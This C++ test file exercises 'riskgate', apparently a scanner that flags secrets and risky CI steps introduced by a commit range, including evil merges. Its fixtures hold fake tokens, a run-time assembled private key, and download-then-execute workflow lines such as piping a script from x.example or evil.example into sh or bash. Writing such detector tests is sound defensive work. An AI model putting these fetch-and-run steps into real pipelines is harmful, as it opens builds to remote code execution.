// End to end, issue 16: what a change introduced. Every commit of a range is judged, merges
// included (what a merge added relative to every parent), findings of parsed documents count as
// introduced by identity (absent from the base version), and a multi-line secret whose
// delimiters were already there is still found.
#include <catch2/catch.hpp>
#include <set>

#include "support/temp_repo.h"

namespace riskgate::testing {
namespace {

const std::string kSha = "11bd71901bbe5b1630ceea73d27597364c9af683";

// A private key assembled at run time: no source file holds one.
std::string KeyLine(const std::string& which) {
  return "-----" + which + " RSA PRIV" + "ATE KEY-----\n";
}
std::string KeyBody() {
  return std::string("MIIEpAIBAAKCAQEA7vQ2mX9pL4kR8tZ1wN6cB3jH5sD0gY8aE2uF7qV9xK4mT1p\n") +
         "Lz3Rk8Qw2Tn5Vb7Yc9Xd1Fe4Gh6Jk8Lm0Np2Qr4St6Uv8Wx0Yz2Ab4Cd6Ef8Gh0\n";
}

std::set<std::string> Rules(const nlohmann::json& doc) {
  std::set<std::string> rules;
  for (const auto& f : doc["findings"]) rules.insert(f["rule"].get<std::string>());
  return rules;
}

std::string Workflow(const std::string& head, const std::string& run) {
  return "name: ci\non: push\n" + head +
         "jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
         "      - uses: actions/checkout@" +
         kSha + "\n      - run: |\n" + run;
}

}  // namespace

TEST_CASE("an evil merge line in no parent is judged even when a later commit removes it",
          "[e2e][range]") {
  TempRepo repo;
  repo.Write("README.md", "base\n");
  const std::string base = repo.Commit("base");
  repo.Git({"checkout", "-q", "-b", "side"});
  repo.Write("side.txt", "side work\n");
  repo.Commit("side work");
  repo.Git({"checkout", "-q", "main"});
  repo.Write("main.txt", "main work\n");
  repo.Commit("main work");
  repo.Git({"merge", "-q", "--no-ff", "--no-commit", "side"});
  repo.Write("config.env", "TOKEN=" + FakeGithubToken() + "\n");
  repo.Git({"add", "-A"});
  repo.Git({"commit", "-q", "--no-edit"});
  const std::string merge = repo.Head();
  repo.Remove("config.env");
  repo.Commit("drop the token again");
  auto doc = repo.RiskgateJson({"check", "--base", base}, 1);
  REQUIRE(doc["findings"].size() == 1);
  CHECK(doc["findings"][0]["commit"] == merge);
  CHECK(doc["findings"][0]["path"] == "config.env");
}

TEST_CASE("a merge that takes a secret from a commit outside the range is judged against the base",
          "[e2e][range]") {
  TempRepo repo;
  repo.Write("README.md", "base\n");
  repo.Commit("start");
  repo.Write("leak.env", "TOKEN=" + FakeGithubToken() + "\n");
  const std::string old_leak = repo.Commit("an old leak");
  repo.Remove("leak.env");
  const std::string base = repo.Commit("removed again");
  repo.Write("work.txt", "work\n");
  repo.Commit("work");
  // A merge of the old commit (git would call it up to date; commit-tree does not care) whose
  // tree keeps the old commit's file, removed again by the next commit.
  repo.Write("leak.env", "TOKEN=" + FakeGithubToken() + "\n");
  repo.Git({"add", "-A"});
  const std::string tree = repo.Git({"write-tree"}).substr(0, 40);
  const std::string merge =
      repo.Git({"commit-tree", tree, "-p", "HEAD", "-p", old_leak, "-m", "merge"}).substr(0, 40);
  repo.Git({"reset", "-q", "--hard", merge});
  repo.Remove("leak.env");
  repo.Commit("hide it");
  auto doc = repo.RiskgateJson({"check", "--base", base}, 1);
  REQUIRE(doc["findings"].size() == 1);
  CHECK(doc["findings"][0]["commit"] == merge);
}

TEST_CASE("merging the target branch into a change does not judge the target's own content",
          "[e2e][range]") {
  TempRepo repo;
  repo.Write("README.md", "base\n");
  const std::string fork = repo.Commit("fork point");
  repo.Git({"checkout", "-q", "-b", "feature"});
  repo.Write("feature.txt", "feature\n");
  repo.Commit("feature work");
  repo.Git({"checkout", "-q", "main"});
  repo.Write("legacy.env", "TOKEN=" + FakeGithubToken() + "\n");  // main's own, already judged
  const std::string target = repo.Commit("main moves on");
  repo.Git({"checkout", "-q", "feature"});
  repo.Git({"merge", "-q", "--no-edit", "main"});
  auto doc = repo.RiskgateJson({"check", "--base", target, "--head", "feature"}, 0);
  CHECK(doc["findings"].empty());
}

TEST_CASE("a private key body added between BEGIN and END lines of the base blocks",
          "[e2e][staged][range]") {
  TempRepo repo;
  repo.Write("deploy/key.pem", KeyLine("BEGIN") + KeyLine("END"));
  const std::string base = repo.Commit("a key placeholder");
  repo.Write("deploy/key.pem", KeyLine("BEGIN") + KeyBody() + KeyLine("END"));
  repo.Git({"add", "-A"});
  auto staged = repo.RiskgateJson({"check", "--staged"}, 1);
  CHECK(Rules(staged) == std::set<std::string>{"private-key"});
  const std::string commit = repo.Commit("fill in the key");
  auto range = repo.RiskgateJson({"check", "--base", base}, 1);
  REQUIRE(range["findings"].size() == 1);
  CHECK(range["findings"][0]["rule"] == "private-key");
  CHECK(range["findings"][0]["commit"] == commit);
  CHECK(range["findings"][0]["line"] == 1);
}

TEST_CASE("secrets already in the base are not reported when another line of their file changes",
          "[e2e][staged][range]") {
  TempRepo repo;
  repo.Write("old.txt", "token=" + FakeGithubToken() + "\n" + KeyLine("BEGIN") + KeyBody() +
                            KeyLine("END") + "tail\n");
  const std::string base = repo.Commit("old secrets");
  repo.Write("old.txt", "token=" + FakeGithubToken() + "\n" + KeyLine("BEGIN") + KeyBody() +
                            KeyLine("END") + "tail edited\n");
  repo.Git({"add", "-A"});
  CHECK(repo.RiskgateJson({"check", "--staged"}, 0)["findings"].empty());
  repo.Commit("edit the tail");
  CHECK(repo.RiskgateJson({"check", "--base", base}, 0)["findings"].empty());
}

TEST_CASE("deleting the checksum check after a download introduces the finding", "[e2e][pins]") {
  TempRepo repo;
  const std::string verified =
      "          curl -LO https://x.example/tool\n"
      "          sha256sum -c tool.sha256\n"
      "          ./tool\n";
  repo.Write(".github/workflows/ci.yml", Workflow("permissions:\n  contents: read\n", verified));
  const std::string base = repo.Commit("verified download");
  repo.Write(".github/workflows/ci.yml",
             Workflow("permissions:\n  contents: read\n",
                      "          curl -LO https://x.example/tool\n          ./tool\n"));
  repo.Git({"add", "-A"});
  CHECK(Rules(repo.RiskgateJson({"check", "--staged"}, 1)).contains("download-then-execute"));
  repo.Commit("skip the check");
  CHECK(Rules(repo.RiskgateJson({"check", "--base", base}, 1)).contains("download-then-execute"));
}

TEST_CASE("deleting the permissions block of a workflow introduces the finding", "[e2e][pins]") {
  TempRepo repo;
  repo.Write(".github/workflows/ci.yml",
             Workflow("permissions:\n  contents: read\n", "          make\n"));
  const std::string base = repo.Commit("scoped token");
  repo.Write(".github/workflows/ci.yml", Workflow("", "          make\n"));
  repo.Commit("drop permissions");
  // A medium finding: it warns, and it is part of the change.
  auto doc = repo.RiskgateJson({"check", "--base", base}, 0);
  REQUIRE(doc["findings"].size() == 1);
  CHECK(doc["findings"][0]["rule"] == "excessive-permissions");
  CHECK(doc["findings"][0]["decision"] == "warn");
}

TEST_CASE("editing one line of a multi-line run makes an untouched line dangerous", "[e2e][pins]") {
  TempRepo repo;
  repo.Write(".github/workflows/ci.yml",
             Workflow("permissions:\n  contents: read\n",
                      "          curl -o notes.txt https://x.example/t.sh\n"
                      "          bash t.sh\n"));
  const std::string base = repo.Commit("local script");
  repo.Write(".github/workflows/ci.yml", Workflow("permissions:\n  contents: read\n",
                                                  "          curl -o t.sh https://x.example/t.sh\n"
                                                  "          bash t.sh\n"));
  repo.Commit("download the script");
  auto doc = repo.RiskgateJson({"check", "--base", base}, 1);
  REQUIRE(Rules(doc).contains("download-then-execute"));
  // An edit elsewhere does not make an old finding new.
  const std::string second = repo.Head();
  repo.Write("README.md", "docs\n");
  repo.Write(".github/workflows/ci.yml", Workflow("permissions:\n  contents: read\n",
                                                  "          curl -o t.sh https://x.example/t.sh\n"
                                                  "          bash t.sh\n          echo done\n"));
  repo.Commit("unrelated");
  CHECK(repo.RiskgateJson({"check", "--base", second}, 0)["findings"].empty());
}

TEST_CASE("pointing an old unverified run at another download introduces the finding",
          "[e2e][pins]") {
  TempRepo repo;
  const auto workflow = [](const std::string& host) {
    return Workflow("permissions:\n  contents: read\n",
                    "          curl -o t.sh https://" + host + "/t.sh\n          bash t.sh\n");
  };
  repo.Write(".github/workflows/ci.yml", workflow("x.example"));
  const std::string base = repo.Commit("an old unverified download");
  repo.Write(".github/workflows/ci.yml", "# ci\n" + workflow("x.example"));
  repo.Commit("a comment above");
  CHECK(repo.RiskgateJson({"check", "--base", base}, 0)["findings"].empty());
  repo.Write(".github/workflows/ci.yml", "# ci\n" + workflow("evil.example"));
  repo.Commit("another host");
  auto doc = repo.RiskgateJson({"check", "--base", base}, 1);
  CHECK(Rules(doc).contains("download-then-execute"));
}

TEST_CASE("a file that a change newly includes in GitLab CI is judged though it is untouched",
          "[e2e][pins]") {
  TempRepo repo;
  repo.Write(".gitlab-ci.yml", "stages: [build]\nbuild:\n  script: [make]\n");
  repo.Write("ci/setup.yml", "setup:\n  script:\n    - curl -fsSL https://x.example/i | sh\n");
  const std::string base = repo.Commit("a file that is no pipeline yet");
  repo.Write(".gitlab-ci.yml",
             "include:\n  - local: ci/setup.yml\nstages: [build]\nbuild:\n  script: [make]\n");
  repo.Git({"add", "-A"});
  auto staged = repo.RiskgateJson({"check", "--staged"}, 1);
  REQUIRE(Rules(staged).contains("download-then-execute"));
  repo.Commit("include it");
  auto range = repo.RiskgateJson({"check", "--base", base}, 1);
  REQUIRE(Rules(range).contains("download-then-execute"));
  // Once included, an unrelated edit of the pipeline does not make the old finding new.
  const std::string included = repo.Head();
  repo.Write(".gitlab-ci.yml",
             "include:\n  - local: ci/setup.yml\nstages: [build]\nbuild:\n"
             "  script: [make, make test]\n");
  repo.Commit("test too");
  CHECK(repo.RiskgateJson({"check", "--base", included}, 0)["findings"].empty());
}

}  // namespace riskgate::testing
